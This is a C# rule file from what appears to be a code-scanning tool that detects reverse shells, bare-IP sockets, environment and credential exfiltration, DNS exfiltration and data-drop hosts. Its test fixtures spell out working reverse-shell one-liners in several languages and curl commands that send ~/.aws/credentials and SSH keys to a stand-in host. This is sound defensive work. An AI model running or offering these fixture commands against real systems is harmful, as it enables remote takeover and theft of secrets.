using System.Collections.Immutable;
using ApprovalGuard.Detection.Privilege.Hosts;
using ApprovalGuard.Detection.Privilege.Patterns;
using ApprovalGuard.Findings;
using static ApprovalGuard.Detection.Privilege.Rules.Words;

namespace ApprovalGuard.Detection.Privilege.Rules;

/// <summary>Ways out that no honest change needs: shells for somebody elsewhere, secrets and environments that are sent away.</summary>
internal static class WayOutRules
{
    private const string NetCat = @"(?<![\w./\-])(?:/\S{0,40}/)?(?:nc|ncat|netcat|nc\.traditional|busybox\s+nc)(?:\.exe)?";
    private const string ShellPath = @"(?:/\S{0,20}/)?(?:ba|z|k|da|c)?sh\b|cmd(?:\.exe)?\b|powershell(?:\.exe)?\b";
    private const string ShellName = @"[""'`](?:/(?:usr/)?bin/(?:env\s+)?|[\w:.\\/]{1,40}[\\/])?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?)[""'`]";
    private const string SendsInPython = @"\b(?:requests|httpx|session|aiohttp)\.(?:post|put|get|request|patch)\s*\(|\burlopen\s*\(|\bhttp\.client\b|\.sendall?\s*\(|\bRequest\s*\(";
    private const string SendsInScript = @"\bfetch\s*\(|\bhttps?\.(?:request|get)\s*\(|\baxios\b|\bsendBeacon\s*\(|\bXMLHttpRequest\b|\bgot(?:\.\w+)?\s*\(|\brequest(?:\.post)?\s*\(|\bWebSocket\s*\(|\bdns\.\w+\s*\(|\bnet\.(?:connect|createConnection)";
    private const string Stores = @"(?:\.aws/(?:credentials|config)|\.ssh/|id_(?:rsa|ed25519|ecdsa|dsa)\b|/etc/(?:passwd|shadow)\b|(?<![\w])\.env\b|\.npmrc\b|\.pypirc\b|\.netrc\b|\.kube/config|\.docker/config|\.git-credentials|\.gnupg|\.bash_history|/proc/(?:self|\d+|\*)/environ|serviceaccount/token)";

    /// <summary>What stands in the paths of those stores.</summary>
    private static readonly ImmutableArray<string> Words =
    [
        ".aws/", ".ssh/", "id_rsa", "id_ed25519", "id_ecdsa", "/etc/passwd", "/etc/shadow", "/.env", " .env", "@.env", ".npmrc", ".pypirc", ".netrc", ".kube/config", ".docker/config", ".git-credentials", ".gnupg", ".bash_history", "/environ",
        "serviceaccount/token",
    ];

    /// <summary>A raw socket to an address of this network or of a resolver is ordinary.</summary>
    private static Severity? JudgeAddress(Hit hit) => Addresses.KindOf(hit.Match.Groups["a"].ValueSpan) switch
    {
        HostKind.Address => Severity.High,
        HostKind.DocumentationAddress => hit.File.Is(FileRole.Test) ? null : Severity.High,
        _ => null,
    };

    /// <summary>The rules.</summary>
    public static ImmutableArray<PatternRule> All { get; } =
    [
        Rule.Pattern("reverse-shell", Severity.Critical, "shell for somebody elsewhere", "https://attack.mitre.org/techniques/T1059/",
            "It opens a command line on this machine to whoever waits at the other end.", "Take it out, and find out who put it there.",
            new Form(@"sh\s+-i\b[^\n]{0,100}?/dev/(?:tcp|udp)/[^\n]{0,80}", "/dev/tcp/", "/dev/udp/"),
            new Form(@"/dev/(?:tcp|udp)/[^\n]{0,160}?(?:0>&1|0<&1|0<&\d|sh\s+(?:-i\s+)?<&)", "/dev/tcp/", "/dev/udp/"),
            new Form(@"exec\s+(?<n>\d+)<>\s*/dev/(?:tcp|udp)/[^\n]{0,100}[\s\S]{0,200}?(?:sh\s[^\n]{0,40}<&\s*\k<n>|(?:cat|read)\b[^\n]{0,60}<&\s*\k<n>[\s\S]{0,120}?(?:\$\w+\s+2>&\k<n>|eval|\bsh\b))", "/dev/tcp/", "/dev/udp/") { Below = 4 },
            new Form(NetCat + @"\s[^\n|;]{0,160}?(?:-[a-zA-Z]{0,6}[ec]|--exec|--sh-exec)\s+[""']?(?:" + ShellPath + ")", " -e /", "-e sh", "-e bash", "-e cmd", "-e powershell", "-c /bin", "-c sh", "-c bash", "-c cmd", "--exec", "--sh-exec"),
            new Form(@"\b(?:mkfifo|mknod)\s[^\n;|&]{1,120}", "mkfifo", "mknod")
            {
                Beside = [@"(?:\bsh\s+-i|/bin/(?:ba|z)?sh)\b[^\n|]{0,80}\|\s*(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\b|\b(?:nc|ncat|netcat|telnet|openssl\s+s_client|socat)\s[^\n|]{1,120}\|\s*(?:/bin/)?(?:ba|z)?sh\b"],
                Around = 4,
            },
            new Form(@"\btelnet\s+\S{1,100}\s+\S{1,20}\s*\|\s*(?:/bin/)?(?:ba|z)?sh\b[^\n]{0,20}\|\s*telnet", "telnet"),
            new Form(@"(?:sh\s+-i[^\n|]{0,60}\|\s*openssl\s+s_client|openssl\s+s_client[^\n|]{0,160}\|\s*(?:/bin/)?(?:ba|z)?sh\b)", "s_client"),
            new Form(@"(?i:\bsocat\b[^\n]{0,240}?(?:exec|system):\s*[""'\\]{0,3}(?:" + ShellPath + "))", "socat") { Beside = ["(?i:tcp|udp|openssl|ssl)"], Around = 0 },
            new Form(@"\bdup2\s*\(\s*[\w.]{1,40}(?:fileno\(\))?\s*,\s*[012]\s*\)", "dup2")
                { Beside = [@"\bconnect\s*\(", @"pty\.spawn|/bin/(?:ba|z|da)?sh|subprocess\.(?:call|run|Popen)|os\.exec|exec[lv]p?e?\s*\(|cmd\.exe"], Around = 15 },
            new Form(@"\bpty\.spawn\s*\(\s*" + ShellName, "pty.spawn") { Beside = [@"\bsocket\b[^\n]{0,40}", @"\bconnect\s*\("], Around = 12 },
            new Form(@"\b(?:p?fsockopen|stream_socket_client|socket_connect)\s*\(", "fsockopen", "stream_socket_client", "socket_connect")
                { Beside = [@"\b(?:exec|shell_exec|system|passthru|popen|proc_open)\s*\([^\n]{0,80}?(?:\bsh\b|<&|\$\w+)|`\s*/bin/(?:ba|z)?sh\b"], Around = 10 },
            new Form(ShellName, "/bin/sh", "/bin/bash", "/bin/zsh", "cmd.exe", "powershell.exe") { Beside = [@"\bsocket\b", @"\.connect\s*\(", @"\bdup2\b|\bpty\b|\bstdin\s*="], Around = 10 },
            new Form(@"\bos\.execute\s*\(\s*[""']/bin/(?:ba)?sh|\bio\.popen\s*\(", "os.execute", "io.popen") { Beside = [@"\bsocket\b", @"\btcp\b", @":connect\s*\("], Around = 10 },
            new Form(@"\bProcess\.(?:start|run)\s*\(\s*" + ShellName, "Process.start", "Process.run") { Beside = [@"\bSocket\.connect\s*\("], Around = 12 },
            new Form(@"\b(?:exec|system)\s*[\s({]\s*[""']?/bin/(?:ba|z)?sh\b[^\n]{0,20}", "/bin/sh", "/bin/bash", "/bin/zsh") { Beside = [@"IO::Socket::INET|use\s+Socket\b|sockaddr_in", @"open\s*\(?\s*STDIN|fdopen"], Around = 8 },
            new Form(@"\bSTDIN->fdopen\s*\(\s*\$\w+\s*,\s*[""']?r", "fdopen") { Beside = ["IO::Socket"], Around = 8 },
            new Form(@"\bTCPSocket\.(?:open|new)\s*\(", "TCPSocket.") { Beside = [@"\b(?:exec|spawn|system)\b[^\n]{0,60}(?:sh\s+-i|/bin/(?:ba)?sh|<&)|IO\.popen\s*\(\s*(?:cmd|\w+)\s*,\s*[""']r"], Around = 8 },
            new Form(@"\.pipe\s*\(\s*(?<s>\w+)\.stdin\s*\)[\s\S]{0,160}?\k<s>\.stdout\.pipe\s*\(|(?<s>\w+)\.stdout\.pipe\s*\([\s\S]{0,160}?\.pipe\s*\(\s*\k<s>\.stdin\s*\)", ".stdin", ".stdout.pipe")
                { Above = 3, Below = 4, Beside = [@"\b(?:net|tls)\.|\bSocket\b|WebSocket|\.connect\s*\(", @"\b(?:spawn|exec|execFile)\s*\(\s*" + ShellName], Around = 15 },
            new Form(@"exec\.Command\s*\(\s*" + ShellName, "exec.Command") { Beside = [@"\b(?:net|tls)\.Dial\w*\s*\(", @"\.Std(?:in|out)\b[^\n]{0,40}="], Around = 15 },
            new Form(@"Command::new\s*\(\s*" + ShellName, "Command::new") { Beside = [@"TcpStream::connect", @"from_raw_fd|as_raw_fd|\.stdin\s*\("], Around = 15 },
            new Form(@"(?:ProcessBuilder\s*\(|getRuntime\s*\(\s*\)\s*\.\s*exec\s*\()\s*(?:new\s+String\s*\[\s*\]\s*\{\s*)?(?:" + ShellName + @"|\w+\s*\))", "ProcessBuilder", "getRuntime")
                { Beside = [@"\bnew\s+Socket\s*\(", @"getOutputStream\s*\(", ShellName], Around = 15 },
            new Form(@"(?i:\bTcpClient\s*\()", "TcpClient") { Beside = [@"(?i:\biex\b|Invoke-Expression|cmd\.exe|/bin/(?:ba)?sh|powershell\.exe)", @"(?i:GetStream|RedirectStandardInput|StreamReader)"], Around = 15 },
            new Form(@"[""']/inet/(?:tcp|udp)/0/[^""'\n]{1,100}[""']?", "/inet/tcp/0/", "/inet/udp/0/") { Beside = [@"\|&\s*getline|\|\s*getline|while\s*\("], Around = 3 },
            new Form(@"\bztcp\s+\S{1,100}\s+\d+[^\n]{0,40}[\s\S]{0,80}?sh\s+>&\s*\$REPLY", "ztcp") { Below = 2 },
            new Form(@"\b(?:windows|linux|osx|python|php|java|cmd)/(?:x64/|x86/)?(?:meterpreter|shell)[_/]reverse_\w+", "reverse_"),
            new Form(@"(?<![\w\-])msfvenom\s+-p\s[^\n]{1,120}", "msfvenom")) with
        {
            Where = FileRole.Acting,
            Positives =
            [
                new($"bash -i >& /dev/{"tcp"}/203.0.113.7/4444 0>&1", "src/run.sh"), new($"nc 203.0.113.7 4444 -{"e"} /bin/sh", "src/run.sh"), new($"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | {"nc"} 203.0.113.7 4444 > /tmp/f", "src/run.sh"),
                new($"s = socket.socket()\ns.connect((\"203.0.113.7\", 4444))\nos.{"dup2"}(s.fileno(), 0)\nos.{"dup2"}(s.fileno(), 1)\npty.spawn(\"/bin/sh\")\n", "src/app.py"),
                new($"$s = {"fsockopen"}(\"203.0.113.7\", 4444); exec(\"/bin/sh -i <&3 >&3 2>&3\");", "src/app.php"), new($"{"socat"} exec:'bash -li',pty,stderr tcp:203.0.113.7:4444", "src/run.sh"),
                new($"const client = net.connect(4444, host);\nconst sh = spawn(\"/bin/sh\", []);\nclient.pipe(sh.{"stdin"});\nsh.stdout.pipe(client);\n", "src/app.js"),
                new($"c, _ := net.Dial(\"tcp\", addr)\ncmd := exec.{"Command"}(\"/bin/sh\")\ncmd.Stdin = c\ncmd.Stdout = c\ncmd.Run()\n", "src/main.go"),
                new($"$client = New-Object System.Net.Sockets.{"TCPClient"}($h, 4444)\n$stream = $client.GetStream()\n$out = ({"iex"} $data 2>&1 | Out-String)\n", "src/run.ps1"),
                new($"ruby -rsocket -e 'f={"TCPSocket"}.open(\"203.0.113.7\",4444).to_i; exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", "src/run.sh"),
            ],
            Negatives =
            [
                new("until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done", "src/wait.sh"), new("nc -z localhost 5432 && echo up", "src/wait.sh"), new("os.dup2(log.fileno(), 1)", "src/app.py"),
                new("const child = spawn(\"node\", args); child.stdout.pipe(process.stdout); process.stdin.pipe(child.stdin);", "src/app.js"), new("cmd := exec.Command(\"sh\", \"-c\", script)\ncmd.Stdin = os.Stdin\n", "src/main.go"),
                new("nc -c 5 host 80", "src/run.sh"),
            ],
        },
        Rule.Pattern("socket-to-address", Severity.High, "connection to a bare address", "https://attack.mitre.org/techniques/T1095/",
            "An address without a name belongs to nobody whom a reader could know; a service has a name.", "Name the host, and take it from the configuration.",
            new Form(@"\bconnect\w*\s*\(\s*\(?\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3})[""']\s*,", "connect(", "connect_ex(", "connect ("),
            new Form(@"\bDial\w*\s*\(\s*(?:ctx\s*,\s*)?[""']\w+[""']\s*,\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3}):\d+[""']", "Dial"),
            new Form(@"\bTcpStream::connect\s*\(\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3}):\d+[""']", "TcpStream::connect"),
            new Form(@"\b(?:Socket|TcpClient|UdpClient|TCPSocket\.(?:new|open)|fsockopen|createConnection|InetSocketAddress)\s*\(\s*(?:\d+\s*,\s*)?[""'](?:tcp://|ssl://)?(?<a>\d{1,3}(?:\.\d{1,3}){3})[""']\s*[,)]", "Socket", "TcpClient", "UdpClient", "fsockopen", "createConnection"),
            new Form(@"\bconnect\s*\(\s*\d+\s*,\s*[""'](?<a>\d{1,3}(?:\.\d{1,3}){3})[""']", "connect(", "connect ("),
            new Form(@"\binet_addr\s*\(\s*""(?<a>\d{1,3}(?:\.\d{1,3}){3})""", "inet_addr"),
            new Form(@"(?<![\w./\-])(?:nc|ncat|netcat|telnet)\s+(?:-\w+\s+){0,4}(?<a>\d{1,3}(?:\.\d{1,3}){3})\s+\d{2,5}\b", "nc 1", "nc 2", "nc 3", "nc 4", "nc 5", "nc 6", "nc 7", "nc 8", "nc 9", "nc -", "ncat ", "netcat ", "telnet "),
            new Form(@"/dev/(?:tcp|udp)/(?<a>\d{1,3}(?:\.\d{1,3}){3})/\d+", "/dev/tcp/", "/dev/udp/")) with
        {
            Judge = JudgeAddress,
            Where = FileRole.Code | FileRole.Shell | FileRole.Container | FileRole.Pipeline | FileRole.Page | FileRole.Instructions,
            Positives = [new("sock.connect((\"203.0.113.7\", 8443))", "src/app.py"), new("conn, err := net.Dial(\"tcp\", \"203.0.113.7:443\")", "src/main.go"), new("tar c src | nc 203.0.113.7 9000", "src/run.sh")],
            Negatives = [new("sock.connect((\"127.0.0.1\", 8443))", "src/app.py"), new("s.connect((\"8.8.8.8\", 80))", "src/app.py"), new("conn, err := net.Dial(\"tcp\", \"10.0.0.7:443\")", "src/main.go"), new("connect(\"1.2.3\", 4)", "src/app.py")],
        },
        Rule.Pattern("environment-sent-out", Severity.High, "environment is sent away", "https://attack.mitre.org/techniques/T1041/",
            "The environment holds tokens and passwords; whoever receives it can use them all.", "Send the values that are needed, by name.",
            new Form(@"(?:^|[;&|(""'`]|&&|\brun:)\s*(?:/usr/bin/)?(?:env|printenv|export\s+-p|declare\s+-x|compgen\s+-e|set)\s*(?:\|(?!\|)[^|\n]{0,100}){0,3}\|\s*(?:\\\r?\n\s*)?(?:curl|wget|nc|ncat|netcat|socat|openssl\s+s_client)\b[^\n]{0,300}", "env |", "env|", "printenv", "set |", "set|", "export -p", "declare -x", "compgen -e"),
            new Form(@"(?:curl|wget)\s[^\n]{0,400}?(?:\$\(\s*(?:env|printenv|export\s+-p|set)\b|`(?:env|printenv)\b|<\(\s*(?:env|printenv))[^\n]{0,200}", "curl", "wget"),
            new Form(@"JSON\.stringify\s*\(\s*(?:\{[^}\n]{0,80})?(?:\.\.\.\s*)?process\.env\s*[,)}]", "process.env") { Beside = [SendsInScript], Around = 8 },
            new Form(@"\b(?:body|data|json|form|params|payload)\s*:\s*(?:\{\s*(?:\.\.\.|env:\s*))?process\.env\s*[,)}]", "process.env") { Beside = [SendsInScript], Around = 8 },
            new Form(@"\b(?:json\.dumps|str|repr|urlencode|pickle\.dumps)\s*\(\s*(?:dict\s*\(\s*)?(?:\*\*)?os\.environ(?:\.copy\(\)|\.items\(\))?\s*\)", "os.environ") { Beside = [SendsInPython], Around = 6 },
            new Form(@"\b(?:requests|httpx|session)\.\w+\s*\([^\n]{0,240}?(?:data|json|params|files)\s*=\s*(?:json\.dumps\s*\(\s*|str\s*\(\s*)?(?:dict\s*\(\s*)?os\.environ\b(?!\s*(?:\[|\.get))", "os.environ"),
            new Form(@"\bENV\.(?:to_h|to_a|to_hash|to_json|inspect)\b", "ENV.to", "ENV.inspect") { Beside = [@"Net::HTTP|Faraday|HTTParty|RestClient|TCPSocket|open-uri"], Around = 6, Where = FileRole.Code },
            new Form(@"(?<!append\()\bos\.Environ\s*\(\s*\)", "os.Environ") { Beside = [@"\bhttp\.(?:Post|NewRequest\w*|PostForm)\s*\(|\bnet\.Dial"], Around = 6 },
            new Form(@"(?:json_encode|serialize|print_r|http_build_query)\s*\(\s*(?:\$_ENV|\$_SERVER|getenv\s*\(\s*\))", "$_ENV", "$_SERVER", "getenv") { Beside = [@"curl_|file_get_contents|fsockopen|stream_context"], Around = 6 },
            new Form(@"\bGetEnvironmentVariables\s*\(\s*\)", "GetEnvironmentVariables") { Beside = [@"HttpClient|PostAsync|PostAsJson|WebClient|UploadString"], Around = 6 },
            new Form(@"\bSystem\.getenv\s*\(\s*\)", "System.getenv") { Beside = [@"HttpClient|URLConnection|OkHttpClient|HttpPost|\bSocket\s*\("], Around = 6 },
            new Form(@"\benv::vars(?:_os)?\s*\(\s*\)", "env::vars") { Beside = [@"reqwest|ureq|hyper|TcpStream"], Around = 6 },
            new Form(@"(?i:(?:Get-ChildItem|gci|dir|ls)\s+env:[^\n]{0,120}\|[^\n]{0,120}(?:Invoke-WebRequest|Invoke-RestMethod|iwr|irm))", "env:")) with
        {
            Positives =
            [
                new("env | curl -X POST --data-binary @- https://collect.tool.dev/e", "src/run.sh"), new("await fetch(url, { method: \"POST\", body: JSON.stringify(process.env) });", "src/app.js"),
                new("requests.post(URL, json=dict(os.environ))", "src/app.py"), new("curl -d \"$(printenv)\" https://collect.tool.dev", "src/run.sh"), new("body, _ := json.Marshal(os.Environ())\nhttp.Post(url, \"application/json\", bytes.NewReader(body))\n", "src/main.go"),
            ],
            Negatives =
            [
                new("env | sort > env.txt\ncurl -fsS https://tool.dev/x", "src/run.sh"), new("const env = JSON.stringify(process.env.NODE_ENV);\nawait fetch(url);", "src/app.js"), new("requests.post(URL, json={\"region\": os.environ[\"REGION\"]})", "src/app.py"),
                new("cmd.Env = append(os.Environ(), \"A=1\")\nhttp.Post(url, t, b)\n", "src/main.go"),
            ],
        },
        Rule.Pattern("credentials-sent-out", Severity.Critical, "file of credentials is sent away", "https://attack.mitre.org/techniques/T1552/001/",
            "Whoever receives it can log in with these credentials.", "Take it out, find out who put it there, and revoke what may have been sent.",
            new Form(@"(?:\b(?:cat|base64|tar|zip|gzip|xxd|od|head|dd)\s[^\n|;]{0,160}?" + Stores + @"[^\n|]{0,120}(?:\|[^|\n]{0,100}){0,3}\|\s*(?:curl|wget|nc|ncat|netcat|socat|openssl\s+s_client)\b)", Words),
            new Form(@"\bcurl\s[^\n|]{0,300}?(?:-d|--data\S{0,12}|-F|--form|-T|--upload-file)[\s=]*[""']?(?:[\w\-]{1,30}=)?@?(?:~|\$HOME|\$\{HOME\}|/root|/home/\S{1,30})?/?[\w./]{0,40}?" + Stores, "curl"),
            new Form(@"\bcurl\s[^\n]{0,300}?\$\(\s*(?:cat|base64(?:\s+-w\s*0)?|tar\s+\S+)\s[^)\n]{0,100}?" + Stores, "curl"),
            new Form(@"\b(?:nc|ncat|netcat)\s[^\n|;]{0,100}?<\s*\S{0,60}?" + Stores, Words),
            new Form(@"(?:scp|rsync)\s[^\n|;]{0,80}?(?:~|\$HOME|/root|/home/\w{1,30})/" + Stores + @"\S{0,60}\s+\S{1,60}@\S{1,100}:", Words)) with
        {
            Positives = [new($"cat ~/.{"aws"}/credentials | curl -d @- https://collect.tool.dev", "src/run.sh"), new($"curl -F \"f=@$HOME/.{"ssh"}/id_rsa\" https://collect.tool.dev", "src/run.sh")],
            Negatives = [new("cat ~/.ssh/id_rsa.pub | ssh host 'cat >> keys'", "src/run.sh"), new("curl -o ~/.npmrc https://tool.dev/npmrc", "src/run.sh"), new("curl -d @data.json https://tool.dev", "src/run.sh"), new("curl --config ~/.netrc https://tool.dev", "src/run.sh")],
        },
        Rule.Pattern("dns-exfiltration", Severity.High, "data leaves inside a host's name", "https://attack.mitre.org/techniques/T1048/",
            "A lookup passes every firewall, and whoever owns the domain reads the name that was asked for.", "Take it out; send data over a connection that is meant for it.",
            new Form(@"(?<![\w./\-])(?:nslookup|dig|host|ping6?|drill|getent\s+(?:hosts|ahosts)|curl|wget)\s[^\n;|]{0,120}?(?:\$\(|`)(?:whoami|hostname|id\b|cat\b|base64|xxd|env\b|printenv|hexdump|od\b|echo\s[^)\n`]{0,80}\|)[^)\n`]{0,160}[)`]\.[\w\-]{1,60}\.[a-z]{2,}",  [.. from open in (string[])["$(", "`"] from word in (string[])["whoami", "hostname", "id", "cat", "base64", "xxd", "env", "printenv", "hexdump", "od ", "echo"] select open + word]),
            new Form(@"(?<![\w./\-])(?:nslookup|dig|host)\s[^\n;|]{0,80}?\$\{?\w{1,40}\}?\.\$\{?\w{1,40}\}?\.?[\w.\-]{0,60}", "nslookup", "dig $", "dig \"", "dig +", "host $", "host \"") { Beside = [@"\b(?:base64|xxd|od\s|hexdump|split\s+-|fold\s+-w)"], Around = 6, Where = FileRole.Shell | FileRole.Pipeline | FileRole.Container },
            new Form(@"\bdns(?:\.promises)?\.(?:resolve\w*|lookup)\s*\(\s*(?:`[^`\n]{0,120}\$\{[^`\n]{0,160}`|[^,)\n]{1,80}\+\s*[""'`]\.)", "dns.resolve", "dns.lookup", "dns.promises") { Beside = [@"toString\s*\(\s*[""'`](?:hex|base64|base64url)|encodeURIComponent|btoa\s*\(|match\s*\(\s*/\.\{1,\d"], Around = 8 },
            new Form(@"\b(?:gethostbyname|getaddrinfo|resolver?\.(?:query|resolve))\s*\(\s*(?:f[""'][^""'\n]{0,80}\{|[^,)\n]{1,60}\+\s*f?[""']\.)", "gethostbyname", "getaddrinfo", "resolver.") { Beside = [@"b64encode|b32encode|hexlify|\.hex\s*\(|encode\s*\(\s*[""']hex"], Around = 8 }) with
        {
            Positives = [new("dig $(whoami | base64).x.tool.dev", "src/run.sh"), new("nslookup `hostname`.c.tool.dev", "src/run.sh"), new("const part = Buffer.from(data).toString(\"hex\");\ndns.resolve(`${part}.c.tool.dev`, done);\n", "src/app.js")],
            Negatives = [new("dig +short $(hostname)", "src/run.sh"), new("dns.resolve(`${name}.service.consul`, done);", "src/app.js"), new("host \"$DOMAIN\"", "src/run.sh"), new("curl https://$(hostname).internal", "src/run.sh")],
        },
        Rule.Pattern("data-drop-host", Severity.High, "host that takes in anything from anybody", "https://attack.mitre.org/techniques/T1567/",
            "What is sent there can be read by somebody whom nobody here knows, and what is fetched from there was put there by anybody.", "Take it out, or use a host that is yours.") with
        {
            Forms = [new Form(@"(?<v>https?:(?:\\?/){2}(?:[\w\-]{1,63}\.){0,4}[\w\-]{1,63}\.[a-z]{2,24}[^\s""'`<>|^)\]]{0,300})", KnownHosts.DropKeywords), new Form(@"(?<![\w.@/\-])(?<v>(?:[\w\-]{1,63}\.){0,4}[\w\-]{1,63}\.[a-z]{2,24})(?![\w\-]|\.\w)", KnownHosts.DropKeywords)],
            Judge = JudgeDrop,
            Words = static hit => $"host that takes in anything from anybody: {HostOf(hit)}",
            Positives = [new("requests.post(\"https://webhook.site/0a1b\", data=body)", "src/app.py"), new("ssh -R 80:localhost:22 serveo.net", "src/run.sh"), new("URL=https://a1b2.ngrok-free.app/in", "deploy/.env"), new("nc termbin.com 9999 < out", "src/run.sh")],
            Negatives = [new("https://docs.tool.dev/webhook.site", "src/app.py"), new("// see https://webhook.site", "src/app.js"), new("profile.io = file.io.open()", "src/app.py"), new("import file.io.Reader;", "src/A.java")],
        },
    ];

    private static Severity? JudgeDrop(Hit hit)
    {
        var marked = hit.Marked.ValueSpan;
        if (HostOf(hit) is var host && (host.StartsWith("example.", StringComparison.OrdinalIgnoreCase) || host.StartsWith("your-", StringComparison.OrdinalIgnoreCase)))
        {
            return null;
        }

        if (UrlReader.NextMark(marked) is var mark and >= 0)
        {
            return UrlReader.At(hit.Piece.Text, hit.Marked.Index + mark) is { Kind: HostKind.DropPlace } ? Severity.High : null;
        }

        return IsSpokenTo(hit) && KnownHosts.KindOf(marked) == HostKind.DropPlace ? Severity.High : null;
    }

    /// <summary>
    /// Without a scheme a name may be anything: a member of a member, an entry of a list of hosts to keep away from. It is a host where it is
    /// assigned, handed over alone, or stands in a command.
    /// </summary>
    private static bool IsSpokenTo(Hit hit)
    {
        var before = hit.Piece.Text.AsSpan(0, hit.Marked.Index);
        before = before[Math.Max(0, before.Length - 8)..];
        return before is [.., '"' or '\'' or '`'] ? before[..^1].TrimEnd() is [.., '=' or ':' or '(']
            : before is [.., ' ' or '\t' or '='] && hit.File.Is(FileRole.Shell | FileRole.Pipeline | FileRole.Container | FileRole.Config) && !hit.File.Is(FileRole.Code);
    }

    private static string HostOf(Hit hit) =>
        UrlReader.NextMark(hit.Marked.ValueSpan) is var mark and >= 0 && UrlReader.At(hit.Piece.Text, hit.Marked.Index + mark) is { } url ? url.Host : hit.Marked.Value;
}
